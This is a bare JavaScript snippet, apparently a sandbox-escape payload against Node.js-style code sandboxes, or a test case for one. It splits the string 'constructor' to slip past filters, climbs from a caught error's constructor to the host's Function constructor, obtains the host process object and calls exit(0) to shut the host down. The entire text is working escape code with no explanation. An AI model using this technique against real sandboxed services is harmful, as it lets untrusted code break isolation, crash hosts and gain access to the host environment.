const key = 'const' + 'ructor';
let host = null;
try {
  null.x;
} catch (error) {
  host = error[key][key]('return process')();
}
host.exit(0);
